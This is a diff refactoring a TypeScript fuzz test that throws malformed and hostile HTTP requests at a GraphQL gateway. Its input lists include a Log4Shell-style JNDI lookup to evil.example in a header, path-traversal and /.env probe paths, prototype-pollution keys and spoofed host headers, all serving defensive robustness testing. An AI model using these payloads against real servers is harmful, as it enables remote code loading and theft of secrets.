@@ -4,11 +4,9 @@ import { type RawAnswer, sendRaw } from '../../support/rawHttp.ts';
 import { startTestGateway, type TestGateway } from '../../support/testGateways.ts';
 import { startTestGraph } from '../../support/testGraphs.ts';
 import { timeLimitMs, volumeOf } from '../volume.ts';
-import { built, type Choices } from './choices.ts';
-import { playRandomCases } from './fuzzRun.ts';
 import { findAnswerProblem } from './judgeAnswer.ts';
-import { randomText } from './randomTexts.ts';
-import { randomJunk } from './randomValues.ts';
+import { built, type Choices, playRandomCases } from './randomCases.ts';
+import { randomJunk, randomText, words } from './randomValues.ts';
 
 /** A request as bytes. */
 interface RandomRequest {
@@ -21,122 +19,57 @@ interface RandomRequest {
 const good = '{"query":"{ complianceManagementPartners { totalCount } }"}';
 
 const contentTypes = [
-  'application/json',
-  'application/json; charset=utf-8',
-  'application/json; charset=utf-16',
-  'application/json;charset=iso-8859-1',
-  'application/json; charset="',
-  'APPLICATION/JSON',
-  'application/graphql',
-  'application/graphql+json',
-  'application/x-www-form-urlencoded',
-  'multipart/form-data; boundary=x',
-  'multipart/form-data',
-  'multipart/mixed; boundary="-"',
-  'text/plain',
-  'text/plain; charset=utf-8',
-  'text/html',
-  'application/xml',
-  'application/json, text/plain',
-  '/',
-  ';',
-  'json',
-  '*/*',
-  '',
+  ...['application/json; charset=utf-8', 'application/json; charset=utf-16', ''],
+  ...['application/json; charset="', 'multipart/form-data; boundary=x'],
+  ...['multipart/mixed; boundary="-"', 'text/plain; charset=utf-8', 'application/json, text/plain'],
+  ...words(`
+    application/json application/json;charset=iso-8859-1 APPLICATION/JSON application/graphql
+    application/graphql+json application/x-www-form-urlencoded multipart/form-data text/plain
+    text/html application/xml / ; json */*`),
 ];
 
-const methods = [
-  'POST',
-  'GET',
-  'PUT',
-  'PATCH',
-  'DELETE',
-  'OPTIONS',
-  'HEAD',
-  'TRACE',
-  'PROPFIND',
-  'QUERY',
-  'LOCK',
-  'SEARCH',
-];
+const methods = words('POST GET PUT PATCH DELETE OPTIONS HEAD TRACE PROPFIND QUERY LOCK SEARCH');
 
-const paths = [
-  '/graphql',
-  '/graphql?query=%7B__typename%7D',
-  '/graphql?query={__typename}',
-  '/graphql?query=%E0%A4%A',
-  '/graphql?query=%00',
-  '/graphql?query=a&query=b&variables=%7B&extensions=[]',
-  '/graphql?query=mutation%7BdeleteComplianceManagementPartner(input:%7Bid:%22a%22%7D)%7BuserErrors%7Bcode%7D%7D%7D',
-  '/graphql?__proto__[query]=x&constructor.prototype=y',
-  '/graphql/',
-  '/GraphQL',
-  '/graphql%2f..%2f',
-  '/graphql;a=b',
-  '//graphql',
-  '/./graphql',
-  '/../graphql',
-  '/%2e%2e/graphql',
-  '/%',
-  '/%zz',
-  '/%c0%ae',
-  '/schema.graphql',
-  '/livez',
-  '/readyz?x',
-  '/metrics',
-  '/.env',
-  '/favicon.ico',
-  '/__proto__',
-  'http://127.0.0.1/graphql',
-  'http://[::1/graphql',
-  '*',
-  '/?x',
-];
+const paths = words(`
+  /graphql /graphql?query=%7B__typename%7D /graphql?query={__typename} /graphql?query=%E0%A4%A
+  /graphql?query=%00 /graphql?query=a&query=b&variables=%7B&extensions=[]
+  /graphql?query=mutation%7BdeleteComplianceManagementPartner(input:%7Bid:%22a%22%7D)%7BuserErrors%7Bcode%7D%7D%7D
+  /graphql?__proto__[query]=x&constructor.prototype=y /graphql/ /GraphQL /graphql%2f..%2f
+  /graphql;a=b //graphql /./graphql /../graphql /%2e%2e/graphql /% /%zz /%c0%ae /schema.graphql
+  /livez /readyz?x /metrics /.env /favicon.ico /__proto__ http://127.0.0.1/graphql
+  http://[::1/graphql * /?x`);
 
-const odd = [
-  ['accept', 'application/graphql-response+json'],
-  ['accept', 'text/event-stream'],
-  ['accept', 'multipart/mixed; deferSpec=20220824'],
-  ['accept', ';;;q=,'],
-  ['accept', 'application/json;q=0'],
-  ['accept-encoding', 'gzip;q=1.0, br'],
-  ['content-encoding', 'gzip'],
-  ['content-encoding', 'br, gzip'],
-  ['content-encoding', 'identity'],
-  ['expect', '200-maybe'],
-  ['expect', '100-continue'],
-  ['cookie', '__proto__=x; a=b'],
-  ['origin', 'null'],
-  ['origin', 'https://evil.example'],
-  ['prefer', 'wait=0'],
-  ['prefer', 'wait=99999999999999'],
-  ['prefer', 'wait=-1, return=minimal;;'],
-  ['client-request-id', 'a b\tc'],
-  ['client-request-id', 'x'.repeat(500)],
-  ['client-request-id', '__proto__'],
-  ['traceparent', '00-00000000000000000000000000000000-0000000000000000-00'],
-  ['traceparent', 'ff-zz'],
-  ['tracestate', 'x'.repeat(600)],
-  ['authorization', 'Bearer'],
-  ['authorization', 'Basic YTpi'],
-  ['authorization', `Bearer ${'a'.repeat(5_000)}`],
-  ['authorization', 'Bearer \u00fc'],
-  ['x-forwarded-for', '127.0.0.1, unknown'],
-  ['x-forwarded-host', 'evil.example'],
-  ['x-http-method-override', 'DELETE'],
-  ['apollo-require-preflight', ''],
-  ['x-apollo-operation-name', '\u00ff'],
-  ['apollographql-client-name', '\u0024{jndi:ldap://evil.example/a}'],
-  ['__proto__', 'x'],
-  ['constructor', 'x'],
-  ['host', 'evil.example'],
-  ['content-type', 'text/plain'],
-  ['range', 'bytes=0-'],
-  ['if-none-match', '*'],
-  ['max-forwards', '0'],
-  ['te', 'trailers'],
-  ['upgrade-insecure-requests', '1'],
-] as const;
+const odd = Object.entries({
+  accept: [
+    ...['application/graphql-response+json', 'text/event-stream', ';;;q=,', 'application/json;q=0'],
+    'multipart/mixed; deferSpec=20220824',
+  ],
+  'accept-encoding': ['gzip;q=1.0, br'],
+  'content-encoding': ['gzip', 'br, gzip', 'identity'],
+  expect: ['200-maybe', '100-continue'],
+  cookie: ['__proto__=x; a=b'],
+  origin: ['null', 'https://evil.example'],
+  prefer: ['wait=0', 'wait=99999999999999', 'wait=-1, return=minimal;;'],
+  'client-request-id': ['a b\tc', 'x'.repeat(500), '__proto__'],
+  traceparent: ['00-00000000000000000000000000000000-0000000000000000-00', 'ff-zz'],
+  tracestate: ['x'.repeat(600)],
+  authorization: ['Bearer', 'Basic YTpi', `Bearer ${'a'.repeat(5_000)}`, 'Bearer \u00fc'],
+  'x-forwarded-for': ['127.0.0.1, unknown'],
+  'x-forwarded-host': ['evil.example'],
+  'x-http-method-override': ['DELETE'],
+  'apollo-require-preflight': [''],
+  'x-apollo-operation-name': ['\u00ff'],
+  'apollographql-client-name': ['\u0024{jndi:ldap://evil.example/a}'],
+  ['__proto__']: ['x'],
+  constructor: ['x'],
+  host: ['evil.example'],
+  'content-type': ['text/plain'],
+  range: ['bytes=0-'],
+  'if-none-match': ['*'],
+  'max-forwards': ['0'],
+  te: ['trailers'],
+  'upgrade-insecure-requests': ['1'],
+}).flatMap(([name, values]) => values.map((value) => [name, value] as const));
 
 /** Draws a request: bytes, broken JSON, odd types and headers, any method, path and query; some are no HTTP at all. */
 function randomRequest(choices: Choices): RandomRequest {
@@ -166,42 +99,33 @@ function randomRequest(choices: Choices): RandomRequest {
 }
 
 function randomBody(choices: Choices): Buffer {
-  switch (choices.below(10)) {
-    case 0:
-      return Buffer.alloc(0);
-    case 1:
-      return Buffer.from(choices.some(60, () => choices.below(256)));
-    case 2:
-      return Buffer.from(randomText(choices));
-    case 3:
-      return Buffer.from(randomJunk({ kind: 'json' }, choices));
-    case 4:
-      return cutBytes(Buffer.from(good), choices);
-    case 5:
-      return Buffer.from(`[${good},${good}]`);
-    case 6:
-      return Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(good)]);
-    case 7:
-      return Buffer.from(good, choices.pick(['utf16le', 'latin1', 'utf8']));
-    case 8:
-      return Buffer.from(
-        choices.pick([
-          `${'['.repeat(choices.below(20_000))}`,
-          `{"query":"{ __typename }","variables":${'{"a":'.repeat(choices.below(5_000))}1}`,
-          `{"query":"${'x'.repeat(choices.below(65_536))}"}`,
-          `{"query":"{ __typename }","x":"${'x'.repeat(65_536)}"}`,
-          '{"query":"{ __typename }","query":"{ nothing }"}',
-          '{"__proto__":{"query":"{ __typename }"}}',
-          '{"query":null,"variables":{},"extensions":{"persistedQuery":{"version":1,"sha256Hash":"00"}}}',
-          '{"query":{"kind":"Document"},"variables":[1]}',
-          '{"query":"{ __typename }","variables":"{}","operationName":7,"extensions":null}',
-          '--x\r\ncontent-disposition: form-data; name="operations"\r\n\r\n{}\r\n--x--',
-          'query=%7B__typename%7D&variables=%7B%7D',
-        ]),
-      );
-    default:
-      return Buffer.from(good);
-  }
+  const make = choices.pick<() => Buffer | string>([
+    () => '',
+    () => Buffer.from(choices.some(60, () => choices.below(256))),
+    () => randomText(choices),
+    () => randomJunk({ kind: 'json' }, choices),
+    () => cutBytes(Buffer.from(good), choices),
+    () => `[${good},${good}]`,
+    () => `\ufeff${good}`,
+    () => Buffer.from(good, choices.pick(['utf16le', 'latin1', 'utf8'])),
+    () =>
+      choices.pick([
+        '['.repeat(choices.below(20_000)),
+        `{"query":"{ __typename }","variables":${'{"a":'.repeat(choices.below(5_000))}1}`,
+        `{"query":"${'x'.repeat(choices.below(65_536))}"}`,
+        `{"query":"{ __typename }","x":"${'x'.repeat(65_536)}"}`,
+        '{"query":"{ __typename }","query":"{ nothing }"}',
+        '{"__proto__":{"query":"{ __typename }"}}',
+        '{"query":null,"variables":{},"extensions":{"persistedQuery":{"version":1,"sha256Hash":"00"}}}',
+        '{"query":{"kind":"Document"},"variables":[1]}',
+        '{"query":"{ __typename }","variables":"{}","operationName":7,"extensions":null}',
+        '--x\r\ncontent-disposition: form-data; name="operations"\r\n\r\n{}\r\n--x--',
+        'query=%7B__typename%7D&variables=%7B%7D',
+      ]),
+    () => good,
+  ]);
+  const made = make();
+  return Buffer.isBuffer(made) ? made : Buffer.from(made);
 }
 
 /** Takes bytes out and puts others in. */
